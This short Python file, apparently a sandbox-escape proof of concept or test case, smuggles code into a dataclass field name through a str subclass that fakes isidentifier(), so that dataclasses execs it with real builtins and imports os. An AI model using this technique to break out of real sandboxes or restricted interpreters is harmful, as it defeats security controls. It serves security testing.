"""The dataclass wrapper checks field names with name.isidentifier(): a str subclass answers True
for a field name that is code; dataclasses execs it with the real builtins."""
from dataclasses import dataclass


class Name(str):
    def isidentifier(self):
        return True


@dataclass(init=False)
class C:
    __annotations__ = {Name("x or self.box.append(__import__('os'))"): int}


def entry(inputs):
    c = C()
    c.x = 0
    c.box = []
    c == c  # noqa: B015
    return "ESCAPED: " + c.box[0].getcwd()
